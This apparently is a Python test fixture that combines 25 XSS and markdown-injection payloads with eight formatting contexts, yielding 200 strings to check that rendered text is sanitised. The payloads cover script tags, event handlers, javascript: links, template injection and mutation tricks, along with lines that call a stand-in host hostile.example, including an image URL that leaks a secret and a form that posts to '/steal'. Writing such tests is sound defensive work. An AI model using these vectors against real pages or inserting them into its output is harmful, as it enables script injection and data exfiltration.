"""Two hundred texts of a hostile model: each payload in each surrounding in which a page may take text for something else."""

from __future__ import annotations

__all__ = ["INJECTIONS"]

_OUTSIDE = "http://hostile.example"
_PAYLOADS = (
    "<script>window.__taken = 1</script>",
    f"<img src='{_OUTSIDE}/a.png' onerror='window.__taken = 1'>",
    "<svg onload='window.__taken = 1'></svg>",
    f"<iframe src='{_OUTSIDE}/frame'></iframe>",
    "<iframe srcdoc='<script>parent.__taken = 1</script>'></iframe>",
    "<a href='javascript:window.__taken = 1' autofocus onfocus='window.__taken = 1'>here</a>",
    f"<link rel='stylesheet' href='{_OUTSIDE}/style.css'>",
    f"<style>@import '{_OUTSIDE}/style.css'; body {{ display: none }}</style>",
    f"<object data='{_OUTSIDE}/object'></object><embed src='{_OUTSIDE}/embed'>",
    f"<form action='{_OUTSIDE}/steal'><input name='key' autofocus onfocus='window.__taken = 1'></form>",
    f"<video src='{_OUTSIDE}/film' autoplay onerror='window.__taken = 1'></video>",
    f"<meta http-equiv='refresh' content='0; url={_OUTSIDE}'>",
    f"<base href='{_OUTSIDE}/'>",
    "<details open ontoggle='window.__taken = 1'><summary>x</summary></details>",
    "<math><mtext><style><img src=x onerror='window.__taken = 1'></style></mtext></math>",
    f"![picture]({_OUTSIDE}/leak.png?secret=1)",
    f"[click]({_OUTSIDE}/click)",
    "[click](javascript:window.__taken=1)",
    f"![x][ref]\n\n[ref]: {_OUTSIDE}/reference.png",
    f"<{_OUTSIDE}/auto>",
    "&lt;script&gt;window.__taken = 1&lt;/script&gt;",
    "\u202e<script>window.__taken = 1</script>\u202c\u0000\u2028",
    "{{constructor.constructor('window.__taken = 1')()}} ${window.__taken = 1}",
    "</textarea></pre></code><script>window.__taken = 1</script>",
    "<template><script>window.__taken = 1</script></template><x onclick='window.__taken = 1' style='position:fixed;inset:0'>x</x>",
)
_SURROUNDINGS = (
    "{}",
    "Hello {} there.",
    "**{}** and *{}*",
    "- {}\n- second",
    "# {}",
    "`{}`",
    "```html\n{}\n```",
    "| name | value |\n| --- | ---: |\n| {} | 1 |\n| other | 2 |",
)
INJECTIONS = tuple(surrounding.replace("{}", payload) for surrounding in _SURROUNDINGS for payload in _PAYLOADS)
